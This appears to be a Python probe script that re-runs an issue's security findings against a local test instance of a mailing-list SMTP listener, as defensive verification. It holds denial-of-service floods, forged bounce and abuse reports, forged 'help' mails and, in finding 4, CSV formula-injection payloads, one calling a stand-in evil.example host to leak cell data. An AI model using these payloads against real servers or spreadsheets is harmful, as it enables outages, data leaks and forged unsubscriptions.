"""Issue 23's findings 1-5 re-probed against the servers of probe_hardening.py (its `Site`).

Each function sends what the issue's attacker sent, at the real `digestd inbound --listen`
process or through the CLI, and prints one line with the figure. Finding 6 (a database
outage) is benchmarks/bench_db_outage.py, which needs PostgreSQL.
"""

from __future__ import annotations

import contextlib
import csv
import io
import smtplib
import socket
import threading
import time
from collections import Counter
from collections.abc import Iterator
from typing import TYPE_CHECKING, Any

from benchmarks.probe_load import load, say
from tests.support.inbound import arf, dsn, plain
from tests.support.smtp_hostile import RawSmtp, flood, peak_kb, reset_peak, rss_kb

if TYPE_CHECKING:
    from benchmarks.probe_hardening import Site

MB = 1024 * 1024
BOUNCE = "bounces@bounce.example.org"
REQUEST = "bounces+request@bounce.example.org"


def smtp_session(
    site: Site, feed: Iterator[bytes], pause: float, bound: float, *, end: bool = True
) -> str:
    """One DATA fed chunk by chunk, `pause` s apart; the listener's final answer."""
    started = time.monotonic()
    sock = socket.create_connection(("127.0.0.1", site.smtp_port), timeout=bound)
    reader = sock.makefile("rb")

    def answer() -> str:
        lines = []
        while True:
            line = reader.readline()
            if not line:
                return "closed"
            lines.append(line.decode(errors="replace").strip())
            if line[3:4] != b"-":
                return lines[-1]

    try:
        answer()
        for command in (b"EHLO mta.example.net", "MAIL FROM:<>", f"RCPT TO:<{BOUNCE}>", "DATA"):
            sock.sendall((command if isinstance(command, bytes) else command.encode()) + b"\r\n")
            answer()
        sent = 0
        for chunk in feed:
            if time.monotonic() - started > bound:
                break
            try:
                sock.sendall(chunk)
            except OSError:
                break
            sent += len(chunk)
            time.sleep(pause)
        if end:
            with contextlib.suppress(OSError):
                sock.sendall(b"\r\n.\r\n")
        final = answer()
    except OSError as exc:
        final, sent = f"error {exc}", -1
    finally:
        sock.close()
    return f"{final[:60]!r} after {time.monotonic() - started:.1f} s, {sent} bytes"


def probe_listener(site: Site) -> None:
    line = b"X" * 998 + b"\r\n"

    def steady() -> Iterator[bytes]:
        yield b"Subject: slow but steady\r\n\r\n"
        for _ in range(60):  # 60 lines, 0.4 s apart: 24 s at 2.5 KB/s
            yield line

    def trickle() -> Iterator[bytes]:
        yield b"Subject: trickle\r\n\r\n"
        for _ in range(200):  # one byte every 0.5 s (the session cap cuts it first)
            yield b"x"

    out: dict[str, str] = {}
    runs = {
        "steady 2.5 KB/s for 24 s": lambda: smtp_session(site, steady(), 0.4, 60),
        "trickle 2 B/s": lambda: smtp_session(site, trickle(), 0.5, 60),
        "silent in DATA": lambda: smtp_session(site, iter([b"Subject: x\r\n"]), 0, 60, end=False),
    }
    threads = [
        threading.Thread(target=lambda k=k, f=f: out.__setitem__(k, f())) for k, f in runs.items()
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    for name in runs:
        say("listener DATA", f"idle timeout 2 s, session cap 20 s + 1 s/KB: {name}: {out[name]}")


def finding_1(site: Site) -> None:
    """400 MB without CRLF in DATA; 19 connections with a 32 MB command line."""
    pid = site.procs[1].pid
    before = rss_kb(pid)
    reset_peak(pid)
    started = time.perf_counter()
    with RawSmtp("127.0.0.1", site.smtp_port, timeout=60) as conn:
        conn.open_data(BOUNCE)
        result = flood(conn, b"x", 400 * MB)
    took = time.perf_counter() - started
    peak = peak_kb(pid)
    say(
        "finding 1",
        f"400 MB without CRLF: answered {result.reply[:40]!r} after {result.sent / MB:.0f} MB "
        f"sent ({took:.1f} s), closed {result.closed}; listener RSS {before / 1024:.1f} MB, "
        f"peak {peak / 1024:.1f} MB ({(peak - before) / 1024:+.1f})",
    )
    before = rss_kb(pid)
    reset_peak(pid)
    replies: list[bytes] = []

    def attack() -> None:
        with RawSmtp("127.0.0.1", site.smtp_port, timeout=60) as conn:
            conn.line()
            got = flood(conn, b"EHLO " + b"a" * 1000, 32 * MB, end=b"\r\n")
            replies.append(got.reply[:9])

    threads = [threading.Thread(target=attack) for _ in range(19)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=120)
    peak = peak_kb(pid)
    kinds = {r.decode(errors="replace"): replies.count(r) for r in set(replies)}
    say(
        "finding 1",
        f"19 connections x 32 MB command line: answers {kinds}; listener RSS "
        f"{before / 1024:.1f} MB, peak {peak / 1024:.1f} MB ({(peak - before) / 1024:+.1f})",
    )


def _status(site: Site, email: str) -> str:
    got = site.cli("subscribers", "show", email, "--json", timeout=120)
    import json

    return str(json.loads(got.stdout).get("status", "?")) if got.returncode == 0 else "?"


def _send(site: Site, raw: bytes, rcpt: str, mail_from: str = "", source: str = "127.0.0.1") -> str:
    with smtplib.SMTP("127.0.0.1", site.smtp_port, timeout=60, source_address=(source, 0)) as s:
        s.ehlo("mx.example.net")
        s.mail(mail_from)
        s.rcpt(rcpt)
        code, text = s.data(raw)
    return f"{code} {text.decode(errors='replace')[:40]}"


def finding_2(site: Site) -> None:
    """A forged DSN and ARF report with no VERP token, naming active subscribers."""
    victims = {"dsn": "victim-dsn@example.org", "arf": "victim-arf@example.org"}
    for email in victims.values():
        site.cli("subscribers", "add", "--confirmed", email, timeout=120)
    outcomes = []
    for kind, email in victims.items():
        for rcpt in (BOUNCE, REQUEST):
            raw = (dsn if kind == "dsn" else arf)(to=rcpt, recipient=email)
            outcomes.append(f"{kind} to {rcpt.split('@')[0]}: {_send(site, raw, rcpt)}")
    import json

    rows = json.loads(site.cli("inbound", "list", "--json", timeout=120).stdout)
    forged = [r for r in rows if r.get("address") in victims.values()]
    effects = dict(Counter(str(r.get("effect")) for r in forged))
    say(
        "finding 2",
        f"forged reports: {'; '.join(outcomes)}; statuses after: "
        f"{ {e: _status(site, e) for e in victims.values()} }; inbound list: {len(forged)} "
        f"rows naming them, effect {effects}",
    )


def finding_3(site: Site) -> None:
    """One DSN of 40,000 recipient blocks, then a small bounce right behind it."""
    report = "\r\n".join(
        f"Final-Recipient: rfc822; user{i}@example.net\r\nAction: failed\r\nStatus: 5.1.1\r\n"
        for i in range(40_000)
    )
    raw = (
        "From: MAILER-DAEMON@mx.example.net\r\nTo: bounces@bounce.example.org\r\n"
        "Subject: Undelivered Mail\r\nMIME-Version: 1.0\r\n"
        "Content-Type: multipart/report; report-type=delivery-status; boundary=B\r\n\r\n"
        "--B\r\nContent-Type: message/delivery-status\r\n\r\n"
        f"Reporting-MTA: dns; mx.example.net\r\n\r\n{report}\r\n--B--\r\n"
    ).encode()
    small = dsn(to=BOUNCE, recipient="someone@example.net")
    times: dict[str, Any] = {}

    def timed(name: str, message: bytes) -> None:
        started = time.perf_counter()
        answer = _send(site, message, BOUNCE)
        times[name] = f"{answer[:14]!r} in {time.perf_counter() - started:.2f} s"

    big = threading.Thread(target=timed, args=("big", raw))
    big.start()
    time.sleep(0.2)
    timed("small", small)
    big.join(timeout=600)
    say(
        "finding 3",
        f"one DSN of 40,000 blocks ({len(raw) / MB:.1f} MB): {times.get('big')}; a small "
        f"bounce sent 0.2 s after it: {times['small']}; {load()}",
    )


def finding_4(site: Site) -> None:
    """Formulas in the name and topics, as the public form lets anyone store them."""
    name = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    topics = "+cmd|' /C calc'!A0"
    site.cli(
        "subscribers", "add", "--confirmed", "--name", name, "--topics", topics,
        "formula@example.org", timeout=120,
    )  # fmt: skip
    for flag in ((), ("--raw",)):
        out = site.cli("subscribers", "export", *flag, timeout=120).stdout
        rows = [r for r in csv.reader(io.StringIO(out)) if r and r[0] == "formula@example.org"]
        cells = rows[0][1:3] if rows else []
        say("finding 4", f"export {' '.join(flag) or '(default)'}: name, topics = {cells}")


def finding_5(site: Site) -> None:
    """30 'help' mails from one SMTP client, envelope and From set to 30 victims."""
    before = len(site.relay.messages)
    started = time.perf_counter()
    answers = [
        _send(
            site,
            plain(sender=f"victim{n}@example.com", to=REQUEST, subject="help", body="help"),
            REQUEST,
            mail_from=f"victim{n}@example.com",
            source="127.0.30.1",
        )[:3]
        for n in range(30)
    ]
    took = time.perf_counter() - started
    last, since, deadline = -1, time.monotonic(), time.monotonic() + 30
    while time.monotonic() < deadline and time.monotonic() - since < 3:
        time.sleep(0.2)  # until no reply has come for 3 s (at most 30 s)
        if len(site.relay.messages) != last:
            last, since = len(site.relay.messages), time.monotonic()
    replies = [m for m in site.relay.messages[before:] if any("victim" in r for r in m.recipients)]
    subjects = {str(m.message["Subject"]) for m in replies}
    say(
        "finding 5",
        f"30 forged 'help' mails from one client in {took:.1f} s (answers "
        f"{ {a: answers.count(a) for a in set(answers)} }): replies sent {len(replies)} "
        f"to {len({r for m in replies for r in m.recipients})} victims, subjects {subjects}",
    )
